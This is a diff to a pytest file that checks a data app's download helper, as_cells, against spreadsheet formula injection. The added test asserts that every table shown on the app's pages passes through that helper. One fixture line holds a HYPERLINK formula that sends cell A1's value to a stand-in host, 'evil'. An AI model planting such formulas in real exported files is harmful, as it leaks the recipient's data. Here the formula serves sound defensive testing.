@@ -1,10 +1,14 @@
 """Rows to take along."""
 
+import ast
+from pathlib import Path
+
 import pandas as pd
 import pytest
 
 from pages.parts.download import as_cells
 
+PAGES = Path(__file__).parents[2] / "pages"
 LINK = '=HYPERLINK("http://evil/?"&A1,"open")'
 
 
@@ -17,3 +21,12 @@ def test_no_text_is_a_formula_to_a_spreadsheet(text: str) -> None:
 def test_all_else_stays_as_it_is() -> None:
     frame = pd.DataFrame({"event": ["a-1", None], "chance": [0.25, 1.0], "is": [True, False]})
     assert as_cells(frame).to_csv() == frame.to_csv()
+
+
+def test_no_table_on_a_page_which_has_a_download_of_its_own_shows_a_formula() -> None:
+    trees = [ast.parse(path.read_text()) for path in PAGES.rglob("*.py")]
+    calls = [node for tree in trees for node in ast.walk(tree) if isinstance(node, ast.Call)]
+    tables = [call for call in calls if ast.unparse(call.func).endswith(".dataframe")]
+    assert len(tables) > 1
+    shown = {ast.unparse(call.args[0]) for call in tables}
+    assert {text for text in shown if not text.startswith("as_cells(")} == set()
